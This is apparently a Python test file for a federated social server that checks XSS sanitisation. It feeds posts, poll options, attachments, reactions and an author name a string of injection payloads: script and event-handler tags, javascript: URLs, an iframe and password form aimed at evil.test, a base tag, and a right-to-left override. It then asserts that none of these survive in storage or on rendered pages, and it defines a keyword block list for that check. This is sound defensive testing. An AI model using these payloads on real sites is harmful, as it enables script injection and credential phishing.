"""Attack 25: scripts, styles, links that act and marks that turn text around, wherever strangers write something."""

import re

from sqlalchemy import select

from models.people import Actor
from server.keys import DATABASE
from tests.federation.harness import Federation
from tests.federation.meetings import Meetings
from tests.server.peers.talk import create, note, ours, reactions, replies
from tests.server.peers.world import Stranger, World
from tests.server.web.browser import Page
from tests.server.web.conftest import Enter
from tests.server.web.test_afterwards import path_of
from tests.server.web.test_every_page import check
from tests.server.web.test_outside import ANA, said_outside

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"
    "<a href='javascript:alert(1)' style='position:fixed' onclick='alert(1)'>x</a>"
    "<iframe src='https://evil.test'></iframe><style>*{display:none}</style>\u202egnp.exe"
    "<form action='https://evil.test'><input name=password></form><base href='https://evil.test'>"
)
BAD = (
    "alert",
    "javascript:",
    "onerror",
    "onload",
    "<img",
    "<svg",
    "<iframe",
    "<style",
    "style=",
    "<form",
    "<base",
    "\u202e",
)


async def test_attack_25_nothing_of_it_is_kept(world: World, masto: Stranger) -> None:
    ana, post = masto.person("ana"), await ours(world)
    options = [{"type": "Note", "name": f"{EVIL}{number}"} for number in range(2)]
    said = note(
        ana,
        post,
        type="Question",
        oneOf=options,
        content=EVIL,
        summary=EVIL,
        url="javascript:alert(1)",
        contentMap={EVIL: EVIL},
        attachment=[
            {"type": "Image", "url": "data:text/html,alert", "name": "x"},
            {"url": "http://x.test/", "name": EVIL},
        ],
    )
    assert await world.tell(ana, create(ana, said)) == "done"
    assert await world.tell(ana, ana.activity("EmojiReact", object=post, content=EVIL)) == "done"
    [row] = await replies(world)
    assert [one["url"] for one in row.attachments] == ["http://x.test/"]
    kept = str((row.content, row.summary, row.url, row.language, row.attachments, await reactions(world)))
    assert [bad for bad in BAD if bad in kept] == []


async def test_attack_25_nothing_of_it_reaches_a_page(meetings: Meetings, enter: Enter) -> None:
    async with meetings.voting(oak=1, elm=1) as fed:
        await said_outside(fed, content=EVIL + "<p>words</p>", summary=EVIL, language='en" onclick="alert(1)')
        await _rename(fed)
        page = await (await enter(fed, "oak")).get(path_of(fed))
        check(page)
        assert "words" in page.text
        tags = {element.tag for element in page.all()}
        assert not tags & {"iframe", "style", "img", "base", "input"}
        _no_script_but_ours(page)
        addresses = [element.get("href") or "" for element in page.all("a")]
        assert not [one for one in addresses if one.lower().startswith(("javascript", "data"))]


def _no_script_but_ours(page: Page) -> None:
    """One file of this server, which is all that the policy lets run, and nothing written into the page."""
    (script,) = page.all("script")
    source = script.attributes["src"]
    assert re.fullmatch(r"/static/live\.[0-9a-f]{12}\.js", source)
    allowed = page.headers["Content-Security-Policy"].split("script-src ")[1:]
    assert allowed == [f"http://oak.test{source}"]
    assert script.text == ""


async def _rename(fed: Federation) -> None:
    """Its author is called as badly."""
    async with fed.app_of("oak")[DATABASE].ACT.begin() as session:
        found = (await session.scalars(select(Actor).where(Actor.uri == ANA))).one()
        found.handle, found.name, found.url = EVIL[:200], EVIL, "javascript:alert(1)"
